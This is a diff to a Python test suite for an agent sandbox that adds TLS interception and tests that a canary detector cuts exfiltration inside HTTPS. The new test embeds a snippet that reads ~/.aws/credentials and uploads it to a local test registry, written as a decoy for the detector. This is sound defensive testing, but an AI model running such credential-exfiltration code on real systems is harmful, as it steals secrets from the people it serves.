@@ -7,16 +7,19 @@ import ipaddress
 import json
 import os
 import socket
+import ssl
 import sys
 import uuid
 from pathlib import Path
 from typing import Any
 
 import pytest
+import trustme
 
 from app.isolation import sandbox
 from app.isolation.egress import EgressPolicy
 from app.isolation.fence import AGENT, CHECKS, SETUP, Fence
+from app.isolation.tls import CA_FILE_VARIABLES
 from app.services import proc
 from tests.fencing import http_server, make_fence, need_bwrap, tcp_listener
 
@@ -129,13 +132,16 @@ def test_a_socket_whose_directory_must_stay_visible_is_masked_itself(tmp_path: P
     assert "--tmpfs" in args and "/run" in args
 
 
-def registry_fence(tmp_path: Path, port: int, **hosts: frozenset[str]) -> Fence:
+def registry_fence(
+    tmp_path: Path, port: int, *, intercept_tls: bool = False, **hosts: frozenset[str]
+) -> Fence:
     loopback = (ipaddress.ip_network("127.0.0.0/8"),)
     policies = {
         phase: EgressPolicy(allow_hosts=names, allow_ports=frozenset({port}), trusted_nets=loopback)
         for phase, names in hosts.items()
     }
-    return make_fence(tmp_path, policies=policies, names={"registry.test": ["127.0.0.1"]})
+    names = {"registry.test": ["127.0.0.1"]}
+    return make_fence(tmp_path, policies=policies, names=names, intercept_tls=intercept_tls)
 
 
 def test_the_setup_reaches_an_allowed_registry_and_is_refused_an_unlisted_one(tmp_path: Path) -> None:
@@ -193,3 +199,38 @@ def test_a_decoy_sent_over_plain_http_to_an_allowed_host_is_caught_and_cut(tmp_p
         registry.requests
     )
     assert enclosure.network[0]["rule"].startswith("canary")
+
+
+def test_with_interception_https_to_an_allowed_host_works_and_a_decoy_inside_it_is_cut(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    need_bwrap()
+    origin_ca = trustme.CA()
+    trusted = tmp_path / "service-trust.pem"
+    origin_ca.cert_pem.write_to_path(str(trusted))
+    monkeypatch.setenv("SSL_CERT_FILE", str(trusted))  # the service's own trust store, for the upstream
+    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
+    origin_ca.issue_cert("registry.test").configure_cert(context)
+    with http_server(tls=context) as registry:
+        fence = registry_fence(
+            tmp_path, registry.port, intercept_tls=True, checks=frozenset({"registry.test"})
+        )
+        url = f"https://registry.test:{registry.port}/simple/"
+        fetched, enclosure = asyncio.run(
+            inside(fence, tmp_path, CHECKS, [sys.executable, "-c", FETCH, "GET", url])
+        )
+        steal = (
+            "import os, urllib.request\n"
+            "data = open(os.path.expanduser('~/.aws/credentials')).read().encode()\n"
+            f"req = urllib.request.Request('https://registry.test:{registry.port}/upload', data=data)\n"
+            "try:\n    urllib.request.urlopen(req, timeout=10)\n"
+            "except Exception as exc:\n    print('cut', exc)\n"
+        )
+        out, stolen = asyncio.run(inside(fence, tmp_path, CHECKS, [sys.executable, "-c", steal]))
+    assert fetched.startswith("200 registry index"), fetched
+    ca_file = Path(enclosure.env["SSL_CERT_FILE"])
+    assert ca_file.read_bytes() == fence.authority("run-1").pem  # type: ignore[union-attr]
+    assert {enclosure.env[name] for name in CA_FILE_VARIABLES} == {str(ca_file)}
+    assert "cut" in out and stolen.tripped == ["aws access key id"], out
+    assert [path for method, path, _ in registry.requests if method == "GET"] == ["/simple/"]
+    assert all(fence.canaries("run-1").find(data) == [] for _, _, data in registry.requests)
